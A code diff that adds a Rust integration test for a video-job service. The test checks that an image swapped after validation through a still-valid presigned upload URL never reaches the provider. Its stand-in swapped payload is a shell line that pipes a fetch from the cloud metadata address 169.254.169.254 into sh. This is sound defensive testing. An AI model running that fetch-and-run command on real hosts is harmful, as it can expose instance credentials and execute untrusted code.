@@ -10,6 +10,7 @@ use lambda_http::http::StatusCode;
 use serde_json::json;
 use videojobs_core::model::notification::LoopbackPorts;
 use videojobs_core::model::signing::WebhookSecret;
+use videojobs_core::JobStatus;
 use wiremock::matchers::any;
 use wiremock::{Mock, MockServer, ResponseTemplate};
 
@@ -97,6 +98,35 @@ async fn an_upload_that_is_not_the_declared_image_is_refused_at_animate_and_cost
     let upload_id = app.upload("image/png", &png).await;
     let reply = app.animate(json!({"upload_id": upload_id})).await;
     assert_eq!(reply.status, StatusCode::ACCEPTED, "{}", reply.body);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_upload_swapped_after_animate_never_reaches_the_provider() {
+    // Arrange: a real PNG uploaded and animated.
+    let app = TestApp::builder().with_local_provider().build().await;
+    let png = crate::harness::png(320, 240);
+    let slot = app.create_upload(json!({"content_type": "image/png", "size_bytes": png.len()})).await;
+    assert_eq!(crate::harness::put_presigned(&slot.body, &png).await, 200);
+    let reply = app.animate(json!({"upload_id": slot.body["upload_id"], "length": 1, "frame_rate": 12})).await;
+    assert_eq!(reply.status, StatusCode::ACCEPTED, "{}", reply.body);
+    let id = reply.job_id();
+
+    // Act: the same, still valid, URL replaces the image with a script of the same length.
+    let mut swapped = b"#!/bin/sh\ncurl http://169.254.169.254/ | sh\n".to_vec();
+    swapped.resize(png.len(), b'#');
+    assert_eq!(crate::harness::put_presigned(&slot.body, &swapped).await, 200, "the URL still takes a PUT");
+
+    // Assert: the provider got the checked image, so the job completes; the upload holds the script.
+    let job = app.wait_for(&id, 60, |s| !s.is_in_flight()).await;
+    assert_eq!(job.status, JobStatus::Completed, "{:?}", job.error);
+    let stack = app.stack();
+    let read = |key: String| async move {
+        let out = stack.clients.s3.get_object().bucket(&stack.resources.media_bucket).key(key).send().await.expect("object");
+        out.body.collect().await.expect("bytes").into_bytes().to_vec()
+    };
+    assert_eq!(read(videojobs_core::ports::Upload::checked_key_for(&id)).await, png);
+    let upload_key = format!("uploads/{}/{}", app.user, slot.body["upload_id"].as_str().unwrap());
+    assert_eq!(read(upload_key).await, swapped);
 }
 
 /// Log lines written through the functions' own subscriber, kept for the test.
